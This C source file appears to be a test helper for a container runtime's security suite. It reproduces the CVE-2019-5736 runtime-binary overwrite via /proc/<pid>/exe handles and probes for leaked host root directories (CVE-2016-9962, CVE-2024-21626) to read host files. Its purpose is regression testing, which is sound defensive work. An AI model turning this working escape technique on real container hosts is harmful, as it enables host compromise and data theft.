/* exe_snoop.c - the CVE-2019-5736 attacker of tests/security/races.bats,
 * run inside a container while the test `berth exec`s into it.
 *
 *   exe_snoop SECONDS LOG EXE_DEV EXE_INO ROOT_DEV ROOT_INO [HOSTFILE]
 *
 * Watches /proc (the container's) for every new pid. For each one it
 * - records what /proc/<pid>/exe is (the window before the exec'd process
 *   runs the workload shows berth itself);
 * - tries open(/proc/<pid>/exe, O_RDWR) at once, and keeps an O_PATH fd of
 *   it, which it tries to reopen for writing (/proc/self/fd/N, O_RDWR)
 *   again and again: the original attack waited for runc to exit (ETXTBSY
 *   gone) and then wrote through such a handle;
 * - looks at its cwd, root and open fds for the host's root directory
 *   (CVE-2016-9962, CVE-2024-21626: a host directory within reach); through
 *   such a root it reads HOSTFILE (a host path), to show what it gives.
 * A writable fd whose inode is EXE_DEV:EXE_INO (the berth binary the test
 * runs, a disposable copy) gets "PWNED" written at offset 0, so the test's
 * checksum shows the attack worked; any other writable exe (berth's sealed
 * memfd) is only probed with a write that must fail.
 *
 * LOG (append-only lines, made to be grepped) gets:
 *   EXE <pid> <link>        a pid whose exe was readable
 *   RDWR <pid> <what>       a writable fd to that pid's exe (what: host|other)
 *   WRITE <pid> <result>    the result of the write through it
 *   HOSTROOT <pid> <where>  a handle on the host's root directory
 *   HOSTREAD <pid> <text>   the first line of HOSTFILE, read through it
 *   SUMMARY pids=N exes=N writable_host=N writable_other=N hostroot=N
 * It ends after SECONDS (at most 600), or soon after a file LOG.stop
 * appears; it is never installed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 4096
#define MAX_HELD 256

struct target {
	dev_t exe_dev, root_dev;
	ino_t exe_ino, root_ino;
	const char *hostfile; /* NULL: don't read */
};

struct held {
	int fd;
	int pid;
};

struct counts {
	unsigned pids, exes, writable_host, writable_other, hostroot;
};

static int logfd = -1;

static void logf_line(const char *fmt, ...)
{
	char buf[512];
	va_list ap;

	va_start(ap, fmt);
	int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	/* one write per line (O_APPEND): lines never interleave */
	if (write(logfd, buf, (size_t)n) < 0)
		perror("exe_snoop: write log");
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A writable fd on some pid's exe: what is it, and does a write get through? */
static void try_write(int fd, int pid, const struct target *t, struct counts *c)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return;
	if (st.st_dev == t->exe_dev && st.st_ino == t->exe_ino) {
		c->writable_host++;
		logf_line("RDWR %d host", pid);
		ssize_t n = pwrite(fd, "PWNED", 5, 0);
		logf_line("WRITE %d %s", pid, n == 5 ? "ok" : strerror(errno));
	} else {
		c->writable_other++;
		logf_line("RDWR %d other", pid);
		/* the byte that is there, written back: a change of nothing that
		 * still meets the seal (EPERM) or ETXTBSY */
		char b;
		ssize_t n = pread(fd, &b, 1, 0);
		if (n == 1)
			n = pwrite(fd, &b, 1, 0);
		logf_line("WRITE %d %s", pid, n == 1 ? "ok(same byte)" : strerror(errno));
	}
}

static bool is_host_root(int dirfd, const char *name, const struct target *t)
{
	struct stat st;

	if (fstatat(dirfd, name, &st, 0) < 0)
		return false;
	return S_ISDIR(st.st_mode) && st.st_dev == t->root_dev && st.st_ino == t->root_ino;
}

/* Read HOSTFILE's first line through a leaked root (never writes). */
static void read_through(int pid, const char *dir, const char *hostfile)
{
	char path[4096], buf[128];
	snprintf(path, sizeof(path), "%s/%s", dir, hostfile);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	logf_line("HOSTREAD %d %s", pid, buf);
}

static void check_dirs(int pid, const struct target *t, struct counts *c)
{
	char path[64];
	static const char *const links[] = {"cwd", "root"};

	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
		if (is_host_root(AT_FDCWD, path, t)) {
			c->hostroot++;
			logf_line("HOSTROOT %d %s", pid, links[i]);
			if (t->hostfile)
				read_through(pid, path, t->hostfile);
		}
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *d = opendir(path);
	if (!d)
		return;
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		if (is_host_root(dirfd(d), de->d_name, t)) {
			c->hostroot++;
			logf_line("HOSTROOT %d fd/%s", pid, de->d_name);
		}
	}
	closedir(d);
}

static void new_pid(int pid, const struct target *t, struct counts *c, struct held *held,
		    size_t *nheld)
{
	char path[64], link[256];

	c->pids++;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	/* first the handle: the window before the exec is short */
	int opath = open(path, O_PATH | O_CLOEXEC);
	int rw = open(path, O_RDWR | O_CLOEXEC);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n > 0) {
		link[n] = '\0';
		c->exes++;
		logf_line("EXE %d %s", pid, link);
	}
	if (rw >= 0) {
		try_write(rw, pid, t, c);
		close(rw);
	}
	if (opath >= 0) {
		if (*nheld == MAX_HELD) {
			close(held[0].fd);
			memmove(held, held + 1, (MAX_HELD - 1) * sizeof(*held));
			(*nheld)--;
		}
		held[(*nheld)++] = (struct held){.fd = opath, .pid = pid};
	}
	check_dirs(pid, t, c);
}

/* The held handles: once the last process running that file is gone, the
 * kernel's ETXTBSY no longer protects it. */
static void retry_held(const struct target *t, struct counts *c, struct held *held, size_t *nheld)
{
	char path[64];

	for (size_t i = 0; i < *nheld;) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		int w = open(path, O_RDWR | O_CLOEXEC);
		if (w < 0) {
			i++;
			continue;
		}
		try_write(w, held[i].pid, t, c);
		close(w);
		/* reported once: drop it */
		close(held[i].fd);
		held[i] = held[--(*nheld)];
	}
}

int main(int argc, char **argv)
{
	static bool seen[MAX_PIDS * 16];
	static struct held held[MAX_HELD];
	size_t nheld = 0;
	struct counts c = {0};
	struct target t;

	if (argc != 7 && argc != 8) {
		fprintf(
		    stderr,
		    "usage: exe_snoop SECONDS LOG EXE_DEV EXE_INO ROOT_DEV ROOT_INO [HOSTFILE]\n");
		return 2;
	}
	double seconds = strtod(argv[1], NULL);
	if (seconds <= 0 || seconds > 600) {
		fprintf(stderr, "exe_snoop: SECONDS must be in (0, 600]\n");
		return 2;
	}
	t.exe_dev = (dev_t)strtoull(argv[3], NULL, 10);
	t.exe_ino = (ino_t)strtoull(argv[4], NULL, 10);
	t.root_dev = (dev_t)strtoull(argv[5], NULL, 10);
	t.root_ino = (ino_t)strtoull(argv[6], NULL, 10);
	t.hostfile = argc == 8 ? argv[7] : NULL;
	logfd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (logfd < 0) {
		perror("exe_snoop: open log");
		return 1;
	}
	int self = getpid();
	seen[self] = true;
	logf_line("READY %d", self);

	char stop[4096];
	snprintf(stop, sizeof(stop), "%s.stop", argv[2]);
	double end = now() + seconds;
	unsigned long rounds = 0;
	while (now() < end) {
		DIR *d = opendir("/proc");
		if (!d) {
			perror("exe_snoop: opendir /proc");
			return 1;
		}
		struct dirent *de;
		while ((de = readdir(d))) {
			char *e;
			long pid = strtol(de->d_name, &e, 10);
			if (*e || pid <= 0 || pid >= (long)(sizeof(seen) / sizeof(seen[0])) ||
			    seen[pid])
				continue;
			seen[pid] = true;
			new_pid((int)pid, &t, &c, held, &nheld);
		}
		closedir(d);
		if ((++rounds & 0x3f) == 0) {
			retry_held(&t, &c, held, &nheld);
			if (access(stop, F_OK) == 0)
				break;
		}
	}
	retry_held(&t, &c, held, &nheld);
	logf_line("SUMMARY pids=%u exes=%u writable_host=%u writable_other=%u hostroot=%u", c.pids,
		  c.exes, c.writable_host, c.writable_other, c.hostroot);
	return 0;
}
